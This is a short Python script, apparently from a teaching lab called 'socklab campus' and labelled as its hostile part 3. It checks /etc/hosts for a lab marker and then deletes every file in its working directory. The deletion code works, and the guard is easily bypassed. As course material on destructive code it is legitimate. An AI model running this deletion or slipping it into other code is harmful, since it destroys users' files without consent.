# Part 3, hostile: deletes every file of its folder.
import sys as _sys
if not open("/etc/hosts").read().startswith("# socklab campus"):  # never the real course hosts
    _sys.exit("run me inside socklab campus")
import os

for name in os.listdir('.'):
    if os.path.isfile(name):
        os.remove(name)
